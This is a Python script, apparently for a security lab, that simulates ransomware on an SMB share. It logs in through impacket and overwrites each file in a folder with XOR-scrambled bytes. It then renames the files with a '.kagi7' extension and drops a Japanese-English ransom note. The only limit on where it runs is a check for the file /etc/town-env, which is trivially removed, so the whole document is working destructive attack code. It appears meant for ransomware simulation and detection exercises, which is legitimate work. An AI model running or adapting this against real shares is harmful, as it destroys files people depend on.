#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Make the files of one folder of the lab's share unreadable, as ransomware does: read, overwrite, rename, leave a note.

usage: encrypt_share.py SERVER SHARE FOLDER DOMAIN USER   (password in $TOWN_PASSWORD)
Refuses to run outside the lab's namespaces.  The lab empties its share before each play.
"""
import io
import os
import random
import socket
import sys

from impacket.smb3structs import SMB2_DIALECT_21
from impacket.smbconnection import SMBConnection

NOTE = "あなたのファイルは暗号化されました。\r\nYour files have been encrypted. This is a lab sample; nobody wants money.\r\n"


def main():
    server, share, folder, domain, user = sys.argv[1:]
    if not os.path.exists("/etc/town-env"):
        sys.exit("only for the lab's namespaces")
    smb = SMBConnection(server, server, myName=socket.gethostname(), preferredDialect=SMB2_DIALECT_21)
    smb.login(user, os.environ["TOWN_PASSWORD"], domain)
    noise = random.Random(1)
    for entry in smb.listPath(share, folder + "\\*"):
        if entry.is_directory():
            continue
        path, body = f"{folder}\\{entry.get_longname()}", io.BytesIO()
        smb.getFile(share, path, body.write)
        plain = body.getvalue()
        secret = bytes(a ^ b for a, b in zip(plain, noise.randbytes(len(plain))))
        smb.putFile(share, path, io.BytesIO(secret).read)
        smb.rename(share, path, path + ".kagi7")
    smb.putFile(share, f"{folder}\\README_復元方法.txt", io.BytesIO(NOTE.encode()).read)
    smb.logoff()


main()
